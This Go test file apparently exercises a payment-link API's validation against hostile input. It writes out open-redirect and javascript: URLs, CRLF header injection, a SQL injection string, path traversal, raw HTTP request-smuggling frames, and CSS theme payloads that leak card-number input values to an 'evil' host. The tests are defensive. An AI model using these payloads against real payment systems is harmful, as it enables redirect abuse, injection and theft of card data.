package frontstream_test

import (
	"bufio"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"paylink/dialect/frontstream"
)

// long is a text of n characters.
func long(n int) string { return strings.Repeat("x", n) }

// with is the base order with one raw JSON member more.
func with(member string) string {
	return `{"ApiKey":"` + apiKey + `","RedirectUrl":"https://merchant.example/thanks",` + member +
		`,"PaymentLines":[{"Amount":"25.00","Type":12,"Recurring":0}]}`
}

// lineWith is the base order with its line replaced.
func lineWith(line string) string {
	return `{"ApiKey":"` + apiKey + `","RedirectUrl":"https://merchant.example/thanks","PaymentLines":[` + line + `]}`
}

// redirectTo is the base order with another RedirectUrl, as raw JSON.
func redirectTo(raw string) string {
	return `{"ApiKey":"` + apiKey + `","RedirectUrl":"` + raw + `","PaymentLines":[{"Amount":"25.00","Type":12,"Recurring":0}]}`
}

// TestHostileInput is the rows of trust.md 7.4 that concern this API. Each refusal
// makes no link, spends no token (the next case uses it) and repeats nothing of what was sent.
func TestHostileInput(t *testing.T) {
	t.Parallel()
	r := newRig(t, "sqlite")
	const canary = "canary-7f3a"
	for _, c := range []struct {
		id, body string
		status   int
		names    string
	}{
		{"H-02 zero", lineWith(`{"Amount":"0.00","Type":12,"Recurring":0}`), 400, "PaymentLines[0].Amount"},
		{"H-02 nought", lineWith(`{"Amount":"0","Type":12,"Recurring":0}`), 400, "PaymentLines[0].Amount"},
		{"H-02 tenth of a cent", lineWith(`{"Amount":"0.001","Type":12,"Recurring":0}`), 400, "PaymentLines[0].Amount"},
		{"exponent", lineWith(`{"Amount":1e3,"Type":12,"Recurring":0}`), 400, "PaymentLines[0].Amount"},
		{"exponent as text", lineWith(`{"Amount":"1e3","Type":12,"Recurring":0}`), 400, "PaymentLines[0].Amount"},
		{"blank in front", lineWith(`{"Amount":" 5","Type":12,"Recurring":0}`), 400, "PaymentLines[0].Amount"},
		{"line feed behind", lineWith(`{"Amount":"5\n","Type":12,"Recurring":0}`), 400, "PaymentLines[0].Amount"},
		{"Arabic digits", lineWith(`{"Amount":"٢٥","Type":12,"Recurring":0}`), 400, "PaymentLines[0].Amount"},
		{"full-width digits", lineWith(`{"Amount":"２５","Type":12,"Recurring":0}`), 400, "PaymentLines[0].Amount"},
		{"an amount is missing in the second line", lineWith(`{"Amount":"1","Type":1,"Recurring":0},{"Type":1,"Recurring":0}`), 400, "PaymentLines[1].Amount"},
		{"H-20 deep", strings.Repeat("[", 10_000), 400, ""},
		{"H-20 1 MiB of open objects", strings.Repeat(`{"a":`, 1<<20/5), 400, ""},
		{"H-22 two documents", with(`"A":1`) + "{}", 400, ""},
		{"H-23 10 MiB", `"` + long(10<<20) + `"`, 413, ""},
		{"H-25 invalid UTF-8", with("\"FirstName\":\"\xff\""), 400, ""},
		{"H-25 lone surrogate", with(`"FirstName":"\ud800"`), 400, ""},
		{"H-25 NUL", with(`"FirstName":"a\u0000"`), 400, ""},
		{"duplicate member", with(`"Email":"a@example.org","email":"b@example.org"`), 400, ""},
		{"duplicate amount", lineWith(`{"Amount":"25.00","amount":"1.00","Type":12,"Recurring":0}`), 400, ""},
		{"empty body", "", 400, ""},
		{"null", "null", 400, ""},
		{"a string", `"x"`, 400, ""},
		{"H-40 theme loads", with(`"Theme":"@import url(//evil); .card{background:url(https://evil/?x)} @font-face{src:url(//e)}"`), 200, ""},
		{"H-42 theme reads", with(`"Theme":"input[name=cc][value^=\"4\"]{background:url(//e)}"`), 200, ""},
		{"H-44 theme escapes", with(`"Theme":"a{b:\\75rl(//e)} u/**/rl( { [ \""`), 200, ""},
		{"H-44 theme too long", with(`"Theme":"` + long(5001) + `"`), 400, "Theme"},
		{"H-44 theme with NUL", with(`"Theme":"a\u0000b"`), 400, ""},
		{"H-45 variables", with(`"Theme":":root{--x:1px} .card{margin:var(--x)}"`), 200, ""},
		{"H-46 51 fonts", with(`"ThemeFonts":[` + strings.TrimSuffix(strings.Repeat(`"a",`, 51), ",") + `]`), 400, "ThemeFonts"},
		{"H-46 50 fonts", with(`"ThemeFonts":[` + strings.TrimSuffix(strings.Repeat(`"a",`, 50), ",") + `]`), 200, ""},
		{"H-46 font breaks out", with(`"ThemeFonts":["Open Sans:400');@import url(//e"]`), 200, ""},
		{"H-47 markup", with(`"DonateButtonText":"<b>{{.Secret}} ${7*7} %s%n</b>"`), 200, ""},
		{"H-47 101 characters", with(`"DonateButtonText":"` + long(101) + `"`), 400, "DonateButtonText"},
		{"H-49 TranId", with(`"TranId":"4111 1111 1111 1111"`), 400, "TranId"},
		{"H-49 ExternalLineId", lineWith(`{"Amount":"1","Type":12,"Recurring":0,"ExternalLineId":"ref 4111-1111-1111-1111."}`), 400, "PaymentLines[0].ExternalLineId"},
		{"H-49 name", with(`"LastName":"5454545454545454"`), 400, "LastName"},
		{"H-49 number", with(`"LastName":5454545454545454`), 400, "LastName"},
		{"H-49 external token", with(`"ExternalCardToken":"4111111111111111"`), 400, "ExternalCardToken"},
		{"H-49 source", with(`"IntegrationSource":"4111111111111111"`), 400, "IntegrationSource"},
		{"H-49 event", with(`"ExternalEventName":"378282246310005"`), 400, "ExternalEventName"},
		{"bidi", with(`"PoweredByText":"a\u202eb"`), 400, "PoweredByText"},
		{"zero width", with(`"TransactionIdText":"In\u200bvoice"`), 400, "TransactionIdText"},
		{"control", with(`"Street":"a\u001b[2J"`), 400, "Street"},
		{"H-51 script", redirectTo(`javascript:alert(1)`), 400, "RedirectUrl"},
		{"H-51 script in capitals", redirectTo(`JaVaScRiPt:alert(1)//` + canary), 400, "RedirectUrl"},
		{"H-51 data", redirectTo(`data:text/html,x`), 400, "RedirectUrl"},
		{"H-51 no scheme", redirectTo(`//evil.com`), 400, "RedirectUrl"},
		{"H-51 backslash", redirectTo(`/\\evil.com`), 400, "RedirectUrl"},
		{"H-51 opaque", redirectTo(`https:evil.com`), 400, "RedirectUrl"},
		{"H-51 three slashes", redirectTo(`https:///evil.com`), 400, "RedirectUrl"},
		{"H-51 tab", redirectTo(`\thttps://evil.com`), 400, "RedirectUrl"},
		{"H-51 userinfo", redirectTo(`https://good.com@evil.com`), 400, "RedirectUrl"},
		{"H-51 backslash and userinfo", redirectTo(`https://good.com\\@evil.com`), 400, "RedirectUrl"},
		{"H-51 header", redirectTo(`https://a/%0d%0aSet-Cookie:x`), 400, "RedirectUrl"},
		{"H-51 501 characters", redirectTo(`https://a/` + long(491)), 400, "RedirectUrl"},
		{"H-51 empty", redirectTo(``), 400, "RedirectUrl"},
		{"H-51 no host", redirectTo(`http://`), 400, "RedirectUrl"},
		{"H-51 powered by", with(`"PoweredByText":"x","PoweredByUrl":"javascript:alert(1)"`), 400, "PoweredByUrl"},
		{"H-53 a pay link", redirectTo(`https://pay.example/pay/abc`), 400, "RedirectUrl"},
		{"H-53 in disguise", redirectTo(`http://PAY.example:80/x/..//p%61y/abc?a=1#b`), 200, ""}, // http is another port than ours
		{"H-53 in disguise, same port", redirectTo(`https://PAY.example:443/x/..//p%61y/abc?a=1#b`), 400, "RedirectUrl"},
		{"H-53 beside it", redirectTo(`https://pay.example/payments`), 200, ""},
		{"H-103 recurring 10", lineWith(`{"Amount":"1","Type":12,"Recurring":10}`), 400, "PaymentLines[0].Recurring"},
		{"H-103 recurring -1", lineWith(`{"Amount":"1","Type":12,"Recurring":-1}`), 400, "PaymentLines[0].Recurring"},
		{"H-103 recurring null", lineWith(`{"Amount":"1","Type":12,"Recurring":null}`), 400, "PaymentLines[0].Recurring"},
		{"H-103 recurring as text", lineWith(`{"Amount":"1","Type":12,"Recurring":"4"}`), 200, ""},
		{"H-103 type 2", lineWith(`{"Amount":"1","Type":2,"Recurring":0}`), 400, "PaymentLines[0].Type"},
		{"H-103 type 6", lineWith(`{"Amount":"1","Type":6,"Recurring":0}`), 400, "PaymentLines[0].Type"},
		{"H-103 type 12", lineWith(`{"Amount":"1","Type":12,"Recurring":0}`), 200, ""},
		{"type with a plus", lineWith(`{"Amount":"1","Type":"+1","Recurring":0}`), 400, "PaymentLines[0].Type"},
		{"201 lines", lineWith(strings.Repeat(`{"Amount":"1","Type":1,"Recurring":0},`, 200) + `{"Amount":"1","Type":1,"Recurring":0}`), 400, "PaymentLines"},
		{"a line that is none", lineWith(`null`), 400, "PaymentLines[0]"},
		{"every member of a theme escaped", with(`"Theme":"` + strings.Repeat(`\ud83d\ude00`, 5000) + `"`), 200, ""},
	} {
		t.Run(c.id, func(t *testing.T) {
			before := r.newest()
			a := r.call("POST", "/api/paylink", withToken(r.spare()), c.body)
			if a.status == 200 {
				r.unspent = ""
			}
			if a.status != c.status {
				t.Fatalf("got %d %.300s, want %d", a.status, a.body, c.status)
			}
			if made := r.newest() != before; made != (c.status == 200) {
				t.Errorf("a link was made: %v", made)
			}
			switch c.status {
			case 200:
				return
			case 400:
				if codes, messages := rules(t, a); len(codes) != 1 || !strings.Contains(messages, c.names) {
					t.Errorf("%d broken rules, of which one should name %q: %s", len(codes), c.names, messages)
				}
			default:
				isProblem(t, a, c.status)
			}
			if strings.Contains(a.body, canary) || strings.Contains(a.body, "411") {
				t.Errorf("the answer repeats what was sent: %s", a.body)
			}
		})
	}
}

func TestContentEncodingsAreRefused(t *testing.T) {
	t.Parallel()
	r := newRig(t, "sqlite")
	for _, encoding := range []string{"gzip", "br", "deflate"} {
		h := withToken(r.token())
		h.Set("Content-Encoding", encoding)
		isProblem(t, r.call("POST", "/api/paylink", h, order(nil)), 415) // H-24
	}
}

func TestPathsAndMethods(t *testing.T) {
	t.Parallel()
	r := newRig(t, "sqlite")
	for _, c := range []struct {
		method, target, allow string
		status                int
	}{
		{"GET", "/api/paylink", "DELETE, POST", 405},
		{"PUT", "/api/paylink", "DELETE, POST", 405},
		{"TRACE", "/api/paylink", "DELETE, POST", 405},
		{"PATCH", "/api/payLink", "DELETE, POST", 405},
		{"GET", "/api/ClientSession", "POST", 405},
		{"POST", "/api/Verification/VerifyAuthToken", "GET", 405},
		{"HEAD", "/api/Verification/VerifyAuthToken?Code=x", "GET", 405},
		{"POST", "/api/nothing", "", 404},
		{"POST", "/api/paylink/more", "", 404},
	} {
		a := r.call(c.method, c.target, withToken(r.token()), nil)
		if a.header.Get("Allow") != c.allow || a.status != c.status {
			t.Errorf("%s %s: %d, Allow %q", c.method, c.target, a.status, a.header.Get("Allow"))
		}
		if c.method != "HEAD" {
			isProblem(t, a, c.status)
		}
	}
	for _, target := range []string{"/api/payLink", "/API/PAYLINK", "/Api/PayLink/"} {
		if a := r.call("POST", target, withToken(r.token()), order(nil)); a.status != 200 {
			t.Errorf("%s: %d %s", target, a.status, a.body)
		}
	}
	// Headers that ask for another method are not listened to (H-31).
	id := r.make(nil)
	h := withToken(r.token())
	h["X-Http-Method-Override"] = []string{"DELETE"}
	if a := r.call("POST", "/api/paylink?PayLinkId="+id, h, order(nil)); a.status != 200 || r.link(id).State != "open" {
		t.Errorf("a method override was obeyed: %d %s", a.status, r.link(id).State)
	}
}

// H-65: which link is meant must be beyond doubt.
func TestPayLinkIdMustBeGivenOnceAndPlainly(t *testing.T) {
	t.Parallel()
	r := newRig(t, "sqlite")
	a, b := r.make(nil), r.make(nil)
	for _, query := range []string{"PayLinkId=" + a + "&PayLinkId=" + b, "PayLinkId=" + a + "&paylinkid=" + a, "PayLinkId=", "", "PayLinkId=%00",
		"PayLinkId=" + long(300), "PayLinkId=..%2F..", "PayLinkId=' OR 1=1--", "PayLinkId=%F0%9F%98%80", "PayLinkId=" + a + "/"} {
		got := r.call("DELETE", "/api/paylink?"+strings.ReplaceAll(query, " ", "%20"), withToken(r.token()), nil)
		rules(t, got)
	}
	if r.link(a).State != "open" || r.link(b).State != "open" {
		t.Error("a link was closed")
	}
	if got := r.call("DELETE", "/api/paylink?pAyLiNkId="+a, withToken(r.token()), nil); got.status != 200 {
		t.Errorf("a query key in other letter case: %d %s", got.status, got.body)
	}
}

// What the framing of HTTP itself can be abused for (H-23, H-30) is refused by the
// server that the program uses, with the limits that it sets.
func TestBrokenFramingIsRefused(t *testing.T) {
	t.Parallel()
	r := newRig(t, "sqlite")
	mux := http.NewServeMux()
	r.handler.Mount(mux)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{Handler: mux, MaxHeaderBytes: 16 << 10, ReadHeaderTimeout: time.Second, ReadTimeout: time.Second}
	go func() { _ = server.Serve(l) }()
	t.Cleanup(func() { _ = server.Close() })
	head := "POST /api/paylink HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nAccessToken: " + r.token() + "\r\n"
	body := lineWith(`{"Amount":"1","Type":12,"Recurring":0}`)
	before := r.newest()
	for name, c := range map[string]struct{ text, status string }{
		"length and chunks":  {head + "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n", "400"},
		"two lengths":        {head + "Content-Length: 5\r\nContent-Length: 6\r\n\r\n" + body, "400"},
		"header of 64 KiB":   {head + "X-A: " + long(64<<10) + "\r\n\r\n", "431"},
		"500 large headers":  {head + strings.Repeat("X-A: "+long(100)+"\r\n", 500) + "\r\n", "431"},
		"length too short":   {head + "Content-Length: 5\r\n\r\n" + body, "400"},
		"length too long":    {head + "Content-Length: 5000\r\n\r\n" + body, "400"},
		"endless chunks":     {head + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat("400\r\n"+long(1024)+"\r\n", 20), "400"},
		"chunks too large":   {head + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat("400\r\n"+long(1024)+"\r\n", 300), "413"},
		"NUL in the token":   {"POST /api/paylink HTTP/1.1\r\nHost: x\r\nAccessToken: a\x00b\r\n\r\n", "400"},
		"no length, no body": {head + "\r\n", "400"},
	} {
		conn, err := net.Dial("tcp", l.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
		go func() { _, _ = io.WriteString(conn, c.text) }()
		line, err := bufio.NewReader(conn).ReadString('\n')
		if !strings.Contains(line, " "+c.status+" ") {
			t.Errorf("%s: answered %q (%v), want %s", name, line, err, c.status)
		}
		_ = conn.Close()
	}
	if r.newest() != before {
		t.Error("a link was made")
	}
}

func TestASettingDemandsHTTPS(t *testing.T) {
	t.Parallel()
	r := newRig(t, "sqlite", func(h *frontstream.Handler) { h.DemandHTTPS = true })
	if _, messages := rules(t, r.post(order(map[string]any{"RedirectUrl": "http://merchant.example/"}))); !strings.Contains(messages, "RedirectUrl") {
		t.Error(messages)
	}
	if a := r.post(order(nil)); a.status != 200 {
		t.Errorf("https: %d %s", a.status, a.body)
	}
}
